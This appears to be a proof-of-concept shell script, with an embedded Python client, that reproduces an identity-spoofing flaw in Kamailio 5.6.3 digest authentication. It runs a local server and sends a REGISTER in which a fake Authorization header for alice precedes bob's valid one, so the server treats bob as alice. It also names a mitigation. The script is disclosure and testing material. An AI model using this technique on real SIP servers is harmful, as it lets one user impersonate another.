#!/usr/bin/env bash
# Kamailio 5.6.3 (Debian's kamailio 5.6.3-2): a request may have credentials for several realms (RFC 3261, section 22.3).
# pv_www_authenticate, auth_check and the like look at those of the realm that they are given; but $au, and with it what a
# script compares From or To with, is the name in the first of them, whichever were right. So somebody who puts made-up
# credentials with another's name in front of good ones of his own passes for the other. auth_db has the way out:
# load_credentials tells of the account whose HA1 was right.
#
# Seen, of a request with alice's name for another realm in front of bob's good credentials:
#   authenticated, and $au is alice
set -euo pipefail
work=$(mktemp -d)
trap 'kill $(jobs -p) 2>/dev/null || true; rm -rf "$work"' EXIT
cd "$work"
chmod 755 "$work"
apt-get -qq download kamailio=5.6.3-2 2>/dev/null
dpkg -x kamailio_*.deb package
kamailio=$work/package/usr/sbin/kamailio
modules=$(dirname "$(find package -name sl.so)")
port=$(python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
"$kamailio" -v | head -1

cat > kamailio.cfg <<END
debug=1
log_stderror=yes
children=1
disable_tcp=yes
auto_aliases=no
listen=udp:127.0.0.1:$port
mpath="$work/$modules/"
loadmodule "sl.so"
loadmodule "pv.so"
loadmodule "auth.so"
request_route {
    if (!pv_www_authenticate("example.org", "bobs", "0")) {
        www_challenge("example.org", "1");
        exit;
    }
    sl_send_reply("200", "authenticated, and \$\$au is \$au");
    exit;
}
END
"$kamailio" -DD -E -f kamailio.cfg -Y "$work" -w "$work" > log 2>&1 &
cat > ask.py <<'END'
import hashlib, re, socket, sys, time

def md5(*parts):
    return hashlib.md5(":".join(parts).encode()).hexdigest()

def ask(port, more=""):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as phone:
        phone.bind(("127.0.0.1", 0))
        phone.settimeout(0.5)
        here = phone.getsockname()[1]
        phone.sendto((f"REGISTER sip:example.org SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.1:{here};branch=z9hG4bK{here}\r\n"
            f"From: <sip:alice@example.org>;tag=1\r\nTo: <sip:alice@example.org>\r\nCall-ID: {here}\r\nCSeq: 1 REGISTER\r\n"
            f"Max-Forwards: 70\r\n{more}Content-Length: 0\r\n\r\n").encode(), ("127.0.0.1", port))
        try:
            return phone.recv(4096).decode()
        except OSError:
            return ""

port = int(sys.argv[1])
for _ in range(50):
    if challenge := ask(port):
        break
    time.sleep(0.1)
nonce = re.search('nonce="([^"]+)"', challenge)[1]
response = md5(md5("bob", "example.org", "bobs"), nonce, "00000001", "c", "auth", md5("REGISTER", "sip:example.org"))
answer = ask(port,
    'Authorization: Digest username="alice", realm="elsewhere", nonce="n", uri="sip:x", response="0"\r\n'
    f'Authorization: Digest username="bob", realm="example.org", nonce="{nonce}", uri="sip:example.org", '
    f'response="{response}", qop=auth, nc=00000001, cnonce="c"\r\n')
said = answer.split("\r\n")[0].removeprefix("SIP/2.0 200 ")
print(said)
sys.exit(said != "authenticated, and $au is alice")
END
python3 ask.py "$port"
